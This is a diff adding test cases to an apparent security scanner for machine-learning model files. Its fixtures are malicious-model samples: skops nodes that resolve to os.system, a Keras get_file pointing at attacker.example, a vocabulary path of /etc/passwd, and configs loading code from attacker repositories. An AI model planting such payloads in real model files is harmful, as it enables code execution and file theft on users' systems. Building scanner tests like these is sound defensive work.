@@ -37,9 +37,9 @@ def tensor(start: int, end: int, *, dtype: str = "F32", shape: tuple[int, ...] =
     return {"dtype": dtype, "shape": shape, "data_offsets": [start, end]}
 
 
-def skops(module: str, name: str, *, loader: str = "ObjectNode") -> bytes:
+def skops(module: str, name: str, *, loader: str = "ObjectNode", content: object = None) -> bytes:
     """What skops would import that name for."""
-    node = {"__module__": module, "__class__": name, "__loader__": loader, "__id__": 1}
+    node = {"__module__": module, "__class__": name, "__loader__": loader, "__id__": 1, "content": content}
     schema = {"__module__": "builtins", "__class__": "list", "__loader__": "ListNode", "content": [node]}
     return zipped(("schema.json", json.dumps(schema | {"protocol": 2, "_skops_version": "0.16.0"}).encode()))
 
@@ -119,15 +119,44 @@ CASES: list[Case] = [
                     "config": {"activation": {"class_name": "__lambda__"}},
                 },
                 {"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {}},
+                {"module": "keras.utils", "class_name": "get_file", "config": {"origin": "https://attacker.example"}},
+                {"module": "keras.layers", "class_name": "StringLookup", "config": {"vocabulary": "/etc/passwd"}},
             )
         )
     ),
     case("function.skops", skops("os", "system", loader="FunctionNode"), Code.DANGEROUS_GLOBAL),
+    case(
+        "function-behind-a-class.skops",
+        skops(
+            "sklearn.tree",
+            "DecisionTreeClassifier",
+            loader="FunctionNode",
+            content={"module_path": "os", "function": "system"},
+        ),
+        Code.DANGEROUS_GLOBAL,
+    ),
+    case("like-torch.npz", zipped(("x/data.pkl", b"N."), ("x/data/0", SYSTEM + CALL)), Code.DANGEROUS_GLOBAL),
+    case("operator.skops", skops("sklearn.tree", "methodcaller", loader="OperatorFuncNode"), Code.DANGEROUS_GLOBAL),
+    case("method.skops", skops("builtins", "list", loader="MethodNode", content={"func": "x"}), Code.CUSTOM_CODE),
+    case("pipelines/config.json", b'{"custom_pipelines": {"x": {"impl": "attacker/repo--run.Run"}}}', Code.CUSTOM_CODE),
+    case("sentences/modules.json", b'[{"idx": 0, "path": "", "type": "torch.hub"}]', Code.CUSTOM_CODE),
+    case("diffusion/model_index.json", b'{"_class_name": "P", "unet": ["attacker", "Run"]}', Code.CUSTOM_CODE),
+    case("diffusion-class/model_index.json", b'{"_class_name": ["pipeline", "Run"]}', Code.CUSTOM_CODE),
     case("unlisted.skops", skops("attacker", "Model"), Code.UNLISTED_GLOBAL),
     case("escape/m.safetensors.index.json", b'{"weight_map": {"a": "../../x.safetensors"}}', Code.PATH_ESCAPE),
     case("missing/m.safetensors.index.json", b'{"weight_map": {"a": "x.safetensors"}}', Code.MISSING_FILE),
     case("loader/MLmodel", _MLMODEL.format(loader="attacker", more="env: {}").encode(), Code.CUSTOM_CODE),
     case("code/MLmodel", _MLMODEL.format(loader="mlflow.sklearn", more="code: code").encode(), Code.CUSTOM_CODE),
+    case("model-code/MLmodel", b"flavors: {langchain: {model_code_path: run.bin}}\n", Code.CUSTOM_CODE),
+    case("keras-module/MLmodel", b"flavors: {keras: {keras_module: attacker}}\n", Code.CUSTOM_CODE),
+    case("torch/pickle_module_info.txt", b"attacker.pickle\n", Code.CUSTOM_CODE),
+    case("keras/keras_module.txt", b"attacker", Code.CUSTOM_CODE),
+    case("flavor-code/MLmodel", b"flavors: {sklearn: {code: code}}\n", Code.CUSTOM_CODE),
+    case(
+        "reference/MLmodel",
+        b"flavors: {transformers: {source_model_name: attacker/model, task: x}}\n",
+        Code.SOURCE_NOT_INSPECTABLE,
+    ),
     case(
         "missing/MLmodel",
         _MLMODEL.format(loader="mlflow.sklearn", more="model_path: m.pkl").encode(),
